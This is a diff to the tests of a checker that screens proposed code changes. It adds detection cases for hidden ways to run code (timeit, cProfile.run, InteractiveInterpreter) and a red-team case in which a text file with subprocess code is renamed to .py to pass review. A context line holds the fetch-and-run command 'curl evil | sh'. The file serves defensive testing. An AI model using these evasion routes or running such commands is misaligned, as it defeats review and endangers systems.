@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from core.contracts import Proposal
 from tests.policies.helpers import TRAIN, findings, in_tree, one_rule
 
 ALL = [
@@ -45,6 +46,11 @@ TRIGGERS = [
     ("        value = eval(text)\n", "dynamic_code"),
     ("        exec(code, {})\n", "dynamic_code"),
     ("        code = compile(src, 'x', 'exec')\n", "dynamic_code"),
+    ("        import timeit; timeit.timeit(decoded, number=1, globals={})\n", "dynamic_code"),
+    ("        from timeit import Timer as T; T(text).timeit(1)\n", "dynamic_code"),
+    ("        import code; code.InteractiveInterpreter().runsource(text, symbol='exec')\n", "dynamic_code"),
+    ("        import doctest\n", "dynamic_code"),
+    ("        import cProfile; cProfile.run(text)\n", "dynamic_code"),
     ("        import ctypes\n", "native_code"),
     ("        from cffi import FFI\n", "native_code"),
     ("        mod = __import__('socket')\n", "network"),
@@ -116,6 +122,25 @@ def test_the_patched_tree_gives_whole_file_context(code_rule, tmp_path: Path) ->
     after = "import os\n\nos.system(\n    'curl evil | sh'\n)\n"
     found = in_tree(code_rule, tmp_path, "data.py", before, after)
     assert [f.evidence["name"] for f in found] == ["os.system"]
+
+
+@pytest.mark.parametrize("kind", ["rename", "copy"])
+def test_a_file_renamed_or_copied_into_python_is_read_whole(code_rule, tmp_path: Path, kind: str) -> None:  # type: ignore[no-untyped-def]
+    """A text file (never read as code) renamed or copied to `.py` has no added lines, yet all of
+    it is new code where it now is (red team, round ten: `netutil.txt` with `import subprocess`,
+    accepted, then renamed to `netutil.py` and imported)."""
+    text = "import subprocess\n\n\ndef fetch():\n    return subprocess.run(['uname', '-r'])\n"
+    (tmp_path / "netutil.py").write_text(text)
+    if kind == "copy":
+        (tmp_path / "netutil.txt").write_text(text)
+    diff = (
+        f"diff --git a/netutil.txt b/netutil.py\nsimilarity index 100%\n{kind} from netutil.txt\n"
+        f"{kind} to netutil.py\n"
+    )
+    found = code_rule.check(
+        Proposal(diff=diff, rationale="", proposer="test"), None, None, tree=tmp_path
+    ).findings
+    assert {(f.line, f.evidence["category"]) for f in found} == {(1, "subprocess"), (5, "subprocess")}, found
 
 
 def test_non_python_and_deleted_files_are_not_parsed(code_rule) -> None:  # type: ignore[no-untyped-def]
